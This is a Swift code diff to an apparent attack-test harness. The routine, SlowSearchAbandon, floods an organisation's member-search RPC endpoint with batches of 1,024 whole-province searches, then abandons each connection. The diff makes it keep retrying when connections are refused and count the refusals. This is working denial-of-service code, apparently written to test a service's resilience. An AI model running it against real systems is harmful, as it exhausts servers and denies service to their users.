@@ -16,8 +16,12 @@ struct SlowSearchAbandon: Attack {
         let frame = RequestFrame(method: "/sotay.org.v1.OrgService/SearchMembers", metadata: target.administrator, request: request)
         let batch = (1...1024).flatMap { frame.bytes(callID: UInt64($0)) }
         var rounds = 0
+        var refused = 0
         while !stop.isSet, rounds < maxRounds {
-            guard let connection = try? RawConnection(to: target.org, from: target.source) else { break }
+            guard let connection = try? RawConnection(to: target.org, from: target.source) else {
+                refused += 1
+                continue
+            }
             var rest = batch[...]
             let started = ContinuousClock.now
             while !rest.isEmpty, !stop.isSet, ContinuousClock.now - started < .seconds(1) {
@@ -29,6 +33,6 @@ struct SlowSearchAbandon: Attack {
             // The connection closes here, with its 1,024 searches queued or running.
             usleep(500_000)
         }
-        return "\(rounds) rounds of 1,024 searches of the whole province"
+        return "\(rounds) rounds of 1,024 searches of the whole province (\(refused) connections not accepted within 5 s)"
     }
 }
